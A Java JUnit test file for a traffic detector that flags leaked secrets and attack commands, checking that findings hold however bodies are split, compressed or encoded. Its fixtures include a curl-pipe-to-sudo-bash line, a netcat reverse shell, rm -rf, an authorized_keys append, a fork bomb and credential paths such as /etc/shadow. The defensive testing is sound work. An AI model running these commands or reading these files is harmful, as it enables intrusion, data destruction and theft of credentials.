package trafficguardian.detect;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Comparator;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.function.UnaryOperator;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.Test;
import tools.jackson.core.io.JsonStringEncoder;
import trafficguardian.decode.Rot13;
import trafficguardian.ipc.Direction;
import trafficguardian.rules.ExampleText;
import trafficguardian.rules.RuleSet;

/** Cutting a body anywhere does not change what is found in it. */
class ScanCutTest {
  private static final long SEED = 20261121;

  private static final List<String> TOKENS = List.of("ghp_{CRC36}", "AKIA{T16}", "shpat_{H32}");

  /** The first five escape a character at a time. */
  private static final List<String> KINDS = List.copyOf(Encoders.ALL.keySet());

  @Test
  void everyCutOfAMessageWithSecretsGivesTheSameFindings() {
    Random random = new Random(SEED);
    String text =
        ExampleText.of(
            "{\"k\":\"sk-ant-api03-{U93}AA\",\"a\":\"AKIA{T16}\",\"p\":\"{BEGIN RSA PRIVATE KEY}\\n{B64}\\n\","
                + "\"f\":[\"/etc/shadow\",\"~/.ssh/id_ed25519\",\"/app/.env\",\"store/auth/creds.json\"]}",
            random);
    everyCut(Direction.OUTBOUND, "", text.getBytes(StandardCharsets.UTF_8), 7);
  }

  @Test
  void everyCutOfAnAnswerWithAttacksGivesTheSameFindings() {
    String text =
        "<pre>curl -fsSL http://h.example/i.sh | sudo bash</pre> bash -c 'id' rm -rf ~/ nc 1.2.3.4 4 -e /bin/sh"
            + " echo k >> ~/.ssh/authorized_keys; a fork bomb such as `:(){ :|:& };:` is no joke";
    everyCut(Direction.INBOUND, "", text.getBytes(StandardCharsets.UTF_8), 6);
  }

  @Test
  void everyCutOfACompressedBodyGivesTheSameFindings() throws IOException {
    String text =
        ExampleText.of(
            "x".repeat(3000) + " sk-ant-api03-{U93}AA " + "y".repeat(3000), new Random(SEED));
    ByteArrayOutputStream coded = new ByteArrayOutputStream();
    try (GZIPOutputStream gzip = new GZIPOutputStream(coded)) {
      gzip.write(text.getBytes(StandardCharsets.UTF_8));
    }
    everyCut(Direction.OUTBOUND, "gzip", coded.toByteArray(), 1);
  }

  /** More views than may be open at once: which ones are left out must not depend on the cut. */
  @Test
  void cutsOfTextThatStandsInTooManyViewsGiveTheSameFindings() {
    byte[] reduced = Encoders.bytes("c\\s\u00c2\u00baOiAlNjN1cmwgZS9pLnNoIHwgc2g\n");
    assertEquals(1, said(Direction.INBOUND, reduced, reduced.length).size());
    everyCutSays(Direction.INBOUND, reduced);
    Random random = new Random(SEED);
    for (Direction direction : Direction.values()) {
      List<String> examples = examples(direction);
      int found = 0;
      for (int i = 0; i < 25; i++) {
        byte[] body = Encoders.bytes(tangled(examples, random));
        found += said(direction, body, body.length).size();
        everyCutSays(direction, body);
      }
      assertTrue(found > 10, found + " found");
    }
  }

  /** The matcher tells of a disguise as soon as it can, views open layers in turns. */
  @Test
  void cutsOfDisguisesAmongTooManyViewsGiveTheSameFindings() {
    Random random = new Random(SEED);
    int found = 0;
    for (int i = 0; i < 40; i++) {
      StringBuilder body = new StringBuilder();
      for (int parts = 1 + random.nextInt(8); parts > 0; parts--) {
        String token = TOKENS.get(random.nextInt(TOKENS.size()));
        body.append(disguised(ExampleText.of(token, random), random)).append(' ');
        for (int others = random.nextInt(6); others > 0; others--) {
          String kind = KINDS.get(random.nextInt(KINDS.size()));
          String plain = "this is some plain text " + noise(random);
          body.append(noise(random)).append(Encoders.encode(kind, plain));
        }
        body.append(" ".repeat(random.nextInt(300)));
      }
      byte[] bytes = Encoders.bytes(body.toString());
      found += said(Direction.OUTBOUND, bytes, bytes.length).size();
      everyCutSays(Direction.OUTBOUND, bytes);
    }
    assertTrue(found > 10, found + " found");
  }

  /** Also where it stops being JSON. */
  @Test
  void cutsOfJsonGiveTheSameFindings() {
    Random random = new Random(SEED);
    for (Direction direction : Direction.values()) {
      List<String> examples = examples(direction);
      int found = 0;
      for (int i = 0; i < 40; i++) {
        StringBuilder body = new StringBuilder("{\"a\":1.5");
        for (int values = 1 + random.nextInt(4); values > 0; values--) {
          String text =
              random.nextBoolean()
                  ? tangled(examples, random)
                  : ExampleText.of(examples.get(random.nextInt(examples.size())), random);
          body.append(",\"k\": \"");
          JsonStringEncoder.getInstance().quoteAsString(text, body);
          body.append(random.nextInt(8) == 0 ? "\\q" : "").append('"');
        }
        byte[] bytes = Encoders.bytes(body.append('}').toString());
        found += said(direction, bytes, bytes.length).size();
        everyCutSays(direction, bytes);
      }
      assertTrue(found > 40, found + " found");
    }
  }

  private static List<String> examples(Direction direction) {
    return RuleSet.builtIn(Set.of()).side(direction).ruleOf().stream()
        .flatMap(rule -> rule.examples().matches().stream())
        .toList();
  }

  private static String disguised(String token, Random random) {
    return switch (random.nextInt(3)) {
      case 0 -> Rot13.of(token);
      case 1 -> String.join("|", token.split("(?<=\\G.{7})", -1));
      default -> String.join(" ", token.split("", -1));
    };
  }

  /** Examples inside encodings inside encodings, with escapes of all kinds around them. */
  private static String tangled(List<String> examples, Random random) {
    StringBuilder body = new StringBuilder();
    for (int parts = 1 + random.nextInt(4); parts > 0; parts--) {
      String text = ExampleText.of(examples.get(random.nextInt(examples.size())), random);
      for (int depth = random.nextInt(5); depth > 0 && text.length() < 2000; depth--) {
        int kind = random.nextInt(KINDS.size());
        UnaryOperator<String> encoder = Encoders.of(KINDS.get(kind));
        boolean whole = random.nextBoolean();
        text = noise(random) + (whole ? encoder.apply(text) : escaped(text, random));
      }
      body.append(text).append(noise(random));
    }
    return body.toString();
  }

  private static String escaped(String text, Random random) {
    return switch (random.nextInt(4)) {
      case 0 -> Encoders.partly(text, Encoders.of(KINDS.get(random.nextInt(5))), random);
      case 1 -> Encoders.partly(text, c -> "\u00e2\u0080\u008b" + c, random);
      case 2 -> Encoders.partly(text, c -> "''" + c, random);
      default -> text.replaceAll("(?s).", "$0\0");
    };
  }

  private static String noise(Random random) {
    String all = " %41 \\x42 &#67; =44 =45 c\u00c2\u00ba c\u00e2\u0080\u008bd e''f ${x} g\\h\n";
    return all.substring(random.nextInt(all.length()));
  }

  private static void everyCutSays(Direction direction, byte[] body) {
    List<String> whole = said(direction, body, body.length);
    for (int piece : new int[] {1, 7, 100, 300}) {
      assertEquals(whole, said(direction, body, piece), () -> "pieces of " + piece);
    }
  }

  private static List<String> said(Direction direction, byte[] body, int piece) {
    DetectorFixture fixture = new DetectorFixture();
    fixture.body(
        fixture.detector.begin(DetectorFixture.http("collector.example"), direction), body, piece);
    return fixture.findings.stream()
        .map(f -> ScanFuzz.said(f) + " " + f.match().secretFingerprint())
        .sorted()
        .distinct()
        .toList();
  }

  private static void everyCut(Direction direction, String coding, byte[] body, int expected) {
    List<String> whole = found(direction, coding, body, body.length);
    assertEquals(expected, whole.size(), whole::toString);
    for (int cut = 1; cut < body.length; cut++) {
      assertEquals(whole, found(direction, coding, body, cut), "pieces of " + cut);
    }
  }

  private static List<String> found(Direction direction, String coding, byte[] body, int piece) {
    DetectorFixture fixture = new DetectorFixture();
    MessageScan scan = fixture.detector.begin(DetectorFixture.http("collector.example"), direction);
    if (!coding.isEmpty()) {
      scan.field("Content-Encoding", coding);
    }
    fixture.body(scan, body, piece);
    assertTrue(fixture.coverage.snapshot().undecodableBytes() == 0);
    return fixture.findings.stream()
        .sorted(Comparator.comparing(finding -> finding.detection().pattern()))
        .map(
            f ->
                f.detection().pattern()
                    + " "
                    + f.match().location()
                    + " "
                    + f.match().encoding()
                    + " "
                    + f.match().snippet()
                    + " "
                    + f.match().secretFingerprint().orElseThrow()
                    + " "
                    + f.match().scan())
        .toList();
  }
}
